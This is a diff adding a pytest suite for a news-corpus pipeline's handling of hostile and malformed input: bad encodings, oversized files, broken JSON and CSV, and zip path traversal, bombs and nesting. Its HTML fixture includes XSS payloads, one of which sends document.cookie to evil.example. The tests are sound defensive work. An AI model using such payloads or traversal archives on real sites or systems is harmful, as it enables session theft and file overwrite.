@@ -1,0 +1,327 @@
+"""Hostile and broken input: every file ends in ``articles`` or ``problems``, never a crash.
+
+Big inputs are generated in ``tmp_path``; size limits are lowered with ``monkeypatch`` where a
+test would otherwise need hundreds of megabytes.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import struct
+import zipfile
+
+import pandas as pd
+import pytest
+
+from data_pipeline import boilerplate, build_corpus, settings
+from data_pipeline.sentences import sentence_spans
+
+REPORT = "NATO talks\n\nNATO and Russia met in Brussels on Wednesday. The talks lasted four hours."
+
+
+def write(folder, name, content):
+    path = folder / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
+    return path
+
+
+def zip_bytes(members, compression=zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as archive:
+        for name, content in members.items():
+            archive.writestr(zipfile.ZipInfo(name), content, compress_type=compression)
+    return buffer.getvalue()
+
+
+def problems_of(corpus) -> dict[str, str]:
+    return dict(zip(corpus.problems["path"], corpus.problems["problem"]))
+
+
+def sentences_text(corpus) -> str:
+    return "\n".join(corpus.sentences["text"])
+
+
+def test_empty_and_whitespace_files(tmp_path):
+    write(tmp_path / "in", "empty.txt", b"")
+    write(tmp_path / "in", "blank.txt", " \n\n\t \r\n")
+    corpus = build_corpus([tmp_path / "in"])
+    assert corpus.articles.empty
+    assert problems_of(corpus) == {"in/blank.txt": "empty: no text", "in/empty.txt": "empty: no text"}
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8,  # NUL bytes
+        bytes(b % 255 + 1 for b in range(0, 40_000, 7)),  # no NUL, mostly control/undecodable
+    ],
+    ids=["png", "noise"],
+)
+def test_binary_file_is_a_problem(tmp_path, data):
+    corpus = build_corpus([write(tmp_path, "photo.txt", data)])
+    assert corpus.articles.empty
+    assert problems_of(corpus)["photo.txt"].startswith("binary file")
+
+
+SPOKEN = "Le président a déclaré à Bruxelles: «\u00a0Nous sommes très inquiets.\u00a0» Zürich, naïve, façade."
+CURLY = "“The risk of conflict is real,” Stoltenberg said. It costs €5 million… It’s done – for now."
+
+
+@pytest.mark.parametrize(
+    ("text", "encoding"),
+    [
+        (SPOKEN, "latin-1"),
+        (CURLY, "cp1252"),
+        (SPOKEN, "cp1252"),
+        (CURLY, "utf-16"),  # Python writes a BOM
+        (SPOKEN, "utf-16-be"),  # BOM added below
+        (CURLY, "utf-8-sig"),
+    ],
+)
+def test_legacy_and_bom_encodings_are_decoded_right(tmp_path, text, encoding):
+    data = text.encode(encoding)
+    if encoding == "utf-16-be":
+        data = b"\xfe\xff" + data
+    corpus = build_corpus([write(tmp_path, "a.txt", data)])
+    assert corpus.problems.empty
+    assert " ".join(sentences_text(corpus).split()) == " ".join(text.split())
+
+
+def test_a_50_mb_file_is_a_clear_problem_fast(tmp_path):
+    path = tmp_path / "dump.txt"
+    paragraph = "NATO and Russia met in Brussels on Wednesday. The talks lasted four hours.\n\n"
+    path.write_text(paragraph * (50 * 1024 * 1024 // len(paragraph)))
+    corpus = build_corpus([path])
+    assert corpus.articles.empty
+    assert problems_of(corpus)["dump.txt"].startswith("text too long for one article")
+
+
+def test_a_file_over_the_byte_limit_is_not_read(tmp_path, monkeypatch):
+    monkeypatch.setattr(settings, "MAX_FILE_BYTES", 1_000)
+    corpus = build_corpus([write(tmp_path, "big.txt", REPORT * 50)])
+    assert problems_of(corpus)["big.txt"].startswith("file too large")
+
+
+def test_a_5_mb_line_is_a_problem_in_a_build(tmp_path):
+    corpus = build_corpus([write(tmp_path, "line.txt", "word " * 1_000_000)])
+    assert problems_of(corpus)["line.txt"].startswith("text too long for one article")
+
+
+@pytest.mark.parametrize("line", ["word " * 1_000_000, "Short sentence here. " * 250_000], ids=["no-stop", "many-stops"])
+def test_a_5_mb_line_is_cleaned_and_split_without_loss(line):
+    body = boilerplate.parse("Title\n\n" + line + "end.").body
+    assert body.split() == (line + "end.").split()
+    spans = sentence_spans(body)
+    assert max(end - start for _, start, end in spans) <= settings.MAX_SENTENCE_CHARS
+    assert sum(len(body[s:e].split()) for _, s, e in spans) == len(body.split())
+
+
+HOSTILE_HTML = """<!doctype html><html><head><title>NATO talks</title>
+<style>body { background: url(javascript:alert('style')) } .x::after { content: "STYLE-TEXT" }</style>
+<script>alert("SCRIPT-TEXT"); document.location = "https://evil.example/?c=" + document.cookie;</script>
+</head><body onload="alert('ONLOAD-TEXT')">
+<article><h1>NATO talks</h1>
+<p onclick="alert('ONCLICK-TEXT')">NATO and Russia met in Brussels on Wednesday for their first council in two years.</p>
+<iframe src="https://evil.example/frame" srcdoc="<p>IFRAME-TEXT</p>">IFRAME-FALLBACK</iframe>
+<p>The talks lasted four hours, officials said <img src=x onerror="alert('ONERROR-TEXT')">afterwards.</p>
+<script type="module">import("SCRIPT-MODULE-TEXT")</script>
+<noscript>NOSCRIPT-TEXT</noscript>
+<a href="javascript:alert('HREF-TEXT')">a link</a>
+</article></body></html>"""
+
+
+def test_html_code_never_reaches_sentences(tmp_path):
+    corpus = build_corpus([write(tmp_path, "page.html", HOSTILE_HTML)])
+    text = sentences_text(corpus)
+    assert "first council in two years" in text
+    assert "The talks lasted four hours" in text
+    body = corpus.articles["body"].iloc[0]
+    for marker in ("SCRIPT", "STYLE", "ONLOAD", "ONCLICK", "IFRAME", "ONERROR", "NOSCRIPT", "HREF", "alert", "javascript"):
+        assert marker not in text and marker not in body, marker
+
+
+def test_html_that_is_only_script_is_a_problem(tmp_path):
+    corpus = build_corpus([write(tmp_path, "page.html", "<html><body><script>alert(1)</script></body></html>")])
+    assert problems_of(corpus)["page.html"] in ("HTML has no main text", "empty: no text")
+
+
+def test_markdown_link_injection_keeps_words_not_targets(tmp_path):
+    text = (
+        "# NATO talks\n\nNATO met [Russia](javascript:alert(document.cookie)) in Brussels on Wednesday. "
+        "See ![the map](javascript:alert(1)) and [the statement](data:text/html;base64,PHNjcmlwdD4=) for details."
+    )
+    corpus = build_corpus([write(tmp_path, "story.md", text)])
+    body = corpus.articles["body"].iloc[0]
+    assert "NATO met Russia in Brussels on Wednesday." in body
+    assert "the statement for details" in body
+    assert "javascript" not in body and "data:" not in body and "](" not in body
+
+
+def test_zip_with_unsafe_paths_reads_only_the_safe_members(tmp_path):
+    data = zip_bytes({"../evil.txt": REPORT + " A", "/abs/evil.txt": REPORT + " B", "C:/win.txt": REPORT + " C", "ok.txt": REPORT})
+    (tmp_path / "in").mkdir()
+    corpus = build_corpus([write(tmp_path / "in", "c.zip", data)])
+    assert list(corpus.articles["path"]) == ["c.zip!ok.txt"]
+    problems = problems_of(corpus)
+    for name in ("../evil.txt", "/abs/evil.txt", "C:/win.txt"):
+        assert problems[f"c.zip!{name}"].startswith("unsafe path in zip")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]  # nothing was extracted anywhere
+    assert sorted(p.name for p in (tmp_path / "in").iterdir()) == ["c.zip"]
+
+
+def test_zip_bomb_by_compression_ratio(tmp_path):
+    data = zip_bytes({"bomb.txt": b" " * 4_000_000, "ok.txt": REPORT})
+    corpus = build_corpus([write(tmp_path, "c.zip", data)])
+    assert list(corpus.articles["path"]) == ["c.zip!ok.txt"]
+    assert "looks like a zip bomb" in problems_of(corpus)["c.zip!bomb.txt"]
+
+
+def test_zip_total_size_limit_over_members_and_nesting(tmp_path, monkeypatch):
+    monkeypatch.setattr(settings, "MAX_ZIP_TOTAL_BYTES", 2 * len(REPORT) + 10)
+    inner = zip_bytes({"c.txt": REPORT + " C"}, zipfile.ZIP_STORED)
+    data = zip_bytes({"a.txt": REPORT, "b.txt": REPORT + " B", "z.zip": inner}, zipfile.ZIP_STORED)
+    corpus = build_corpus([write(tmp_path, "c.zip", data)])
+    assert list(corpus.articles["path"]) == ["c.zip!a.txt", "c.zip!b.txt"]
+    assert problems_of(corpus) == {"c.zip!z.zip": "zip total size limit reached: not read"}
+
+
+def test_zip_member_larger_than_its_header_says(tmp_path):
+    data = bytearray(zip_bytes({"a.txt": REPORT * 20}))
+    central = data.rindex(b"PK\x01\x02")
+    data[central + 24 : central + 28] = struct.pack("<I", 10)  # declared uncompressed size: 10 bytes
+    corpus = build_corpus([write(tmp_path, "c.zip", bytes(data))])
+    assert corpus.articles.empty
+    problem = problems_of(corpus)["c.zip!a.txt"]
+    assert "Bad CRC-32" in problem or "larger than its header declares" in problem
+
+
+def test_broken_zip_is_a_problem(tmp_path):
+    corpus = build_corpus([write(tmp_path, "c.zip", b"PK\x03\x04 not really a zip")])
+    assert problems_of(corpus)["c.zip"].startswith("broken zip")
+
+
+def test_nested_zips_are_read_down_to_the_depth_limit(tmp_path):
+    data = REPORT.encode()
+    name = "story.txt"
+    for level in range(settings.MAX_ZIP_DEPTH + 1):
+        data = zip_bytes({name: data, f"top{level}.txt": f"{REPORT} {level}"})
+        name = f"level{level}.zip"
+    corpus = build_corpus([write(tmp_path, "outer.zip", data)])
+    paths = list(corpus.articles["path"])
+    assert paths == ["outer.zip!level2.zip!level1.zip!top1.txt", "outer.zip!level2.zip!top2.txt", "outer.zip!top3.txt"]
+    assert problems_of(corpus) == {
+        "outer.zip!level2.zip!level1.zip!level0.zip": f"zip nested deeper than {settings.MAX_ZIP_DEPTH} levels: not read"
+    }
+
+
+def test_duplicate_files_are_kept_and_marked(tmp_path):
+    write(tmp_path / "in", "a.txt", REPORT)
+    write(tmp_path / "in", "copy/a.txt", REPORT)
+    articles = build_corpus([tmp_path / "in"]).articles.set_index("path")
+    assert articles["article_id"].is_unique
+    assert pd.isna(articles.loc["in/a.txt", "duplicate_of"])
+    assert articles.loc["in/copy/a.txt", "duplicate_of"] == articles.loc["in/a.txt", "article_id"]
+
+
+def test_a_file_of_only_boilerplate_is_a_problem(tmp_path):
+    text = "ADVERTISEMENT\n\nShare this article\n\nRelated articles\n\nAll rights reserved."
+    corpus = build_corpus([write(tmp_path, "junk.txt", text)])
+    assert corpus.articles.empty
+    assert corpus.problems["stage"].tolist() == ["boilerplate"]
+    assert problems_of(corpus)["junk.txt"].startswith("no reporting text left")
+
+
+def test_unbalanced_quotation_marks_lose_nothing(tmp_path):
+    text = "NATO talks\n\n" + 'He said "no. ' * 300 + "\n\n“Open and never closed. The talks ended.\n\nOfficials left”. ”Odd."
+    corpus = build_corpus([write(tmp_path, "q.txt", text)])
+    body = corpus.articles["body"].iloc[0]
+    assert "".join(sentences_text(corpus).split()) == "".join(body.split())
+    assert corpus.sentences["text"].str.len().max() <= settings.MAX_QUOTE_MERGE_CHARS
+
+
+def test_an_article_of_10000_quotes(tmp_path):
+    text = "Quotes\n\n" + " ".join(f"“Statement number {n} stands,” the minister said." for n in range(10_000))
+    corpus = build_corpus([write(tmp_path, "quotes.txt", text)])
+    assert corpus.problems.empty
+    assert corpus.articles["n_sentences"].iloc[0] == 10_000
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "problem"),
+    [
+        ("no_text.csv", "title,author\nTalks,Smith\n", "CSV has no text column"),
+        ("header_only.csv", "", "CSV has no text column"),
+        ("bad.csv", 'text\n"unterminated\x00', "binary file"),
+    ],
+)
+def test_csv_without_usable_text(tmp_path, name, content, problem):
+    corpus = build_corpus([write(tmp_path, name, content)])
+    assert corpus.articles.empty
+    assert problems_of(corpus)[name].startswith(problem)
+
+
+def test_jsonl_with_broken_lines_keeps_the_good_ones(tmp_path):
+    lines = [
+        json.dumps({"text": REPORT + " one"}),
+        '{"text": "cut off',
+        "[1, 2, 3]",
+        json.dumps({"title": "no text"}),
+        json.dumps({"text": 42}),
+        "",
+        json.dumps({"text": REPORT + " seven"}),
+    ]
+    corpus = build_corpus([write(tmp_path, "e.jsonl", "\n".join(lines))])
+    assert list(corpus.articles["path"]) == ["e.jsonl#1", "e.jsonl#7"]
+    problems = problems_of(corpus)
+    assert problems["e.jsonl#2"].startswith("broken JSON line")
+    assert problems["e.jsonl#3"] == "JSON line is not an object"
+    assert problems["e.jsonl#4"] == problems["e.jsonl#5"] == "JSON line has no text field"
+
+
+def test_manifest_naming_missing_files(tmp_path):
+    write(tmp_path / "in", "a.txt", REPORT)
+    write(tmp_path / "in", "manifest.csv", "path,source\na.txt,Le Monde\ngone.txt,Der Bund\n")
+    corpus = build_corpus([tmp_path / "in"])
+    assert corpus.articles["source"].tolist() == ["Le Monde"]
+    assert problems_of(corpus) == {"in/gone.txt": "named in manifest.csv but not found"}
+    assert corpus.problems["stage"].tolist() == ["manifest"]
+
+
+def test_manifest_in_a_zip_naming_missing_files(tmp_path):
+    data = zip_bytes({"a.txt": REPORT, "manifest.csv": "path,source\na.txt,Le Monde\ngone.txt,Der Bund\n"})
+    corpus = build_corpus([write(tmp_path, "c.zip", data)])
+    assert corpus.articles["source"].tolist() == ["Le Monde"]
+    assert problems_of(corpus) == {"c.zip!gone.txt": "named in manifest.csv but not found"}
+
+
+def test_impossible_dates_are_null_never_a_crash(tmp_path):
+    write(tmp_path / "in", "a.txt", "Talks\n\nOn Feb 30, 2022 NATO met Russia. The talks ended on February 30.")
+    write(tmp_path / "in", "b.txt", REPORT)
+    write(tmp_path / "in", "manifest.csv", "path,published\na.txt,Feb 30 2022\nb.txt,2022-02-30\n")
+    write(tmp_path / "in", "e.csv", "text,published\nNATO met Russia on Feb 30.,\"Feb 30, 2022\"\n")
+    corpus = build_corpus([tmp_path / "in"])
+    assert len(corpus.articles) == 3
+    assert corpus.articles["published"].isna().all()
+    assert corpus.events["date"].isna().sum() == 0  # any event found has a real date
+
+
+def test_every_input_file_ends_in_articles_or_problems(tmp_path):
+    files = {
+        "good.txt": REPORT,
+        "empty.txt": "",
+        "binary.txt": b"\x00\x01\x02" * 100,
+        "junk.txt": "ADVERTISEMENT\n\nAll rights reserved.",
+        "page.html": HOSTILE_HTML,
+        "e.jsonl": json.dumps({"text": REPORT}) + "\n{broken",
+        "no_text.csv": "title\nx\n",
+        "c.zip": zip_bytes({"../evil.txt": REPORT, "ok.txt": REPORT + " zipped"}),
+        "report.pdf": b"%PDF-1.4 text",
+        "latin.txt": SPOKEN.encode("latin-1"),
+    }
+    for name, content in files.items():
+        write(tmp_path / "in", name, content)
+    corpus = build_corpus([tmp_path / "in"])
+    accounted = {p.split("!")[0].split("#")[0] for p in [*corpus.articles["path"], *corpus.problems["path"]]}
+    assert accounted == {f"in/{name}" for name in files}
